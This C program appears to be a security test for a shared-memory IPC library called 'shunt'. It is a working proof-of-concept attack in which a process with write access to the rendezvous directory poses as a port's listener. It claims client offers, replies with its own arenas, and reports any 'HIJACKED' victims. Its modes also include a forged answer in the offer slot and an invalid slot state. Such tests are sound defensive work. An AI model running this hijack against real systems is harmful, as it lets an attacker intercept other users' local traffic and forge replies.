/* Description: attack #1 of issue #12 - a user who can write the rendezvous
 * directory poses as the listener of a port it does not serve: it registers
 * a listener record, holds the liveness lock, claims every offer for the
 * port and answers it with an arena of its own.  A victim client that
 * attached would send its request to this process instead of the real
 * (plain) server and read this process's forged reply.
 * With "slot" it answers in the offer slot instead (naming a segment of
 * an arena the victim may map already, as a server of the victim's own
 * user may in a private directory), which a shared directory's client must
 * refuse: anyone there can write the slot.  With "garbage" it writes a
 * state no shunt process writes (0x99), which must end the victim's wait
 * at once, plain (an older library waited for ever).
 *   fakelisten DIR PORT SECONDS [slot|garbage]
 * Prints "claimed N attached M"; M > 0 means a victim was hijacked. */
#include "../behave/common.h" /* first: it sets _GNU_SOURCE */
#include <limits.h>
#include <linux/futex.h>
#include <sys/eventfd.h>
#include <sys/syscall.h>
#include <sys/file.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/un.h>
#include "../../src/common/msg.c" /* the wire helpers, as the shim uses them */

#define RS 4096u

static int send_accept(const char *dir, const struct shunt_slot *sl, unsigned idx, int memfd,
		       uint64_t arena_id, const int efd[2])
{
	struct shunt_accept_msg m = { .magic = SHUNT_MSG_MAGIC, .version = SHUNT_WIRE_VERSION, .nfds = 3,
				      .nonce = sl->nonce, .ring_size = RS, .slot = idx, .arena = arena_id,
				      .seg = 0, .flags = SHUNT_MSG_F_ARENA };
	union { char buf[CMSG_SPACE(3 * sizeof(int))]; struct cmsghdr align; } u;
	struct sockaddr_un sun = { .sun_family = AF_UNIX };
	struct iovec iov = { &m, sizeof m };
	struct msghdr mh = { .msg_name = &sun, .msg_namelen = sizeof sun, .msg_iov = &iov, .msg_iovlen = 1,
			     .msg_control = u.buf, .msg_controllen = sizeof u.buf };
	struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
	int fds[3] = { memfd, efd[0], efd[1] }, s = socket(AF_UNIX, SOCK_DGRAM, 0), r;

	snprintf(sun.sun_path, sizeof sun.sun_path, "%s/c%016llx", dir, (unsigned long long)sl->sock_id);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof fds);
	memcpy(CMSG_DATA(c), fds, sizeof fds);
	r = sendmsg(s, &mh, MSG_DONTWAIT) == (ssize_t)sizeof m ? 0 : -1;
	close(s);
	return r;
}

/* A sealed arena with segment 0 made ready for this offer. */
static struct shunt_arena_hdr *make_arena(uint64_t nonce, int *memfd)
{
	size_t len = shunt_arena_size(RS);
	struct shunt_arena_hdr *h;
	struct shunt_seg_hdr *seg;
	int fd = memfd_create("shunt-arena", MFD_ALLOW_SEALING);

	CHECK(fd >= 0 && ftruncate(fd, (off_t)len) == 0);
	CHECK(fcntl(fd, F_ADD_SEALS, F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_SEAL) == 0);
	h = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	CHECK(h != MAP_FAILED);
	*h = (struct shunt_arena_hdr){ .magic = SHUNT_ARENA_MAGIC, .version = SHUNT_WIRE_VERSION,
				       .id = nonce ^ 0x5a5a5a5a5a5a5a5aull, .nslots = SHUNT_ARENA_SLOTS,
				       .ring_size = RS };
	seg = (void *)((char *)h + SHUNT_ARENA_HDR_SIZE);
	shunt_seg_hdr_init(seg, RS, nonce);
	seg->in_use = 1;
	seg->owner[0] = seg->owner[1] = 1;
	*memfd = fd;
	return h;
}

int main(int argc, char **argv)
{
	char path[PATH_MAX];
	struct shunt_registry *r;
	struct shunt_arena_hdr *arenas[64];
	int fd, port, claimed = 0, attached = 0, narenas = 0;
	double end;

	int in_slot = argc == 5 && !strcmp(argv[4], "slot");
	int garbage = argc == 5 && !strcmp(argv[4], "garbage");

	CHECK(argc == 4 || in_slot || garbage);
	port = atoi(argv[2]);
	end = now_s() + atof(argv[3]);
	snprintf(path, sizeof path, "%s/p%d", argv[1], port);
	fd = open(path, O_RDWR | O_CREAT, 0666);
	CHECK(fd >= 0 && ftruncate(fd, sizeof *r) == 0);
	fchmod(fd, 0666);
	r = mmap(NULL, sizeof *r, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	CHECK(r != MAP_FAILED);
	r->magic = SHUNT_REG_MAGIC;
	r->version = SHUNT_WIRE_VERSION;
	r->port = (uint32_t)port;
	r->nslots = SHUNT_REG_SLOTS;
	for (int i = 0; i < SHUNT_REG_LISTENERS; i++) { /* "any address, every namespace" */
		struct stat st;
		r->listeners[i].netns = stat("/proc/self/ns/net", &st) ? 0 : st.st_ino;
		memset(&r->listeners[i].addr, 0, sizeof r->listeners[i].addr);
		r->listeners[i].addr.port = (uint16_t)port;
		r->listeners[i].used = 1;
	}
	CHECK(flock(fd, LOCK_SH) == 0); /* "a live listener" */
	printf("fake listener on port %d\n", port);
	fflush(stdout);
	while (now_s() < end) {
		for (unsigned i = 0; i < SHUNT_REG_SLOTS && narenas < 64; i++) {
			struct shunt_slot *sl = &r->slots[i];
			uint32_t st = __atomic_load_n(&sl->state, __ATOMIC_ACQUIRE), gen = SHUNT_SLOT_GEN(st);
			int memfd, efd[2];
			if (SHUNT_SLOT_STATE(st) != SLOT_OFFERED ||
			    !__atomic_compare_exchange_n(&sl->state, &st, gen | SLOT_CLAIMED, 0, __ATOMIC_ACQ_REL,
							 __ATOMIC_RELAXED))
				continue;
			claimed++;
			if (garbage) { /* a state no party writes, in the offer's generation */
				__atomic_store_n(&sl->state, gen | 0xf, __ATOMIC_RELEASE);
				if (sl->client_waiting)
					syscall(SYS_futex, &sl->state, FUTEX_WAKE, 1, NULL, NULL, 0);
				continue;
			}
			arenas[narenas] = make_arena(sl->nonce, &memfd);
			efd[0] = eventfd(0, 0);
			efd[1] = eventfd(0, 0);
			/* as a server does: the answer, then CLAIMED -> ANSWERED */
			sl->answer_arena = arenas[narenas]->id;
			sl->answer_seg = in_slot ? 0 : SHUNT_SLOT_BY_MSG;
			if (!in_slot && send_accept(argv[1], sl, i, memfd, arenas[narenas]->id, efd))
				__atomic_store_n(&sl->state, gen | SLOT_FAILED, __ATOMIC_RELEASE);
			else
				__atomic_store_n(&sl->state, gen | SLOT_ANSWERED, __ATOMIC_RELEASE);
			if (sl->client_waiting)
				syscall(SYS_futex, &sl->state, FUTEX_WAKE, 1, NULL, NULL, 0);
			narenas++;
			close(memfd);
		}
		usleep(200);
	}
	for (int i = 0; i < narenas; i++) {
		struct shunt_seg_hdr *seg = (void *)((char *)arenas[i] + SHUNT_ARENA_HDR_SIZE);
		if (__atomic_load_n(&seg->confirm, __ATOMIC_ACQUIRE) == 1) {
			attached++;
			printf("HIJACKED: a victim attached and wrote %llu bytes to us\n",
			       (unsigned long long)seg->ring[0].prod);
		}
	}
	printf("claimed %d attached %d\n", claimed, attached);
	return 0;
}
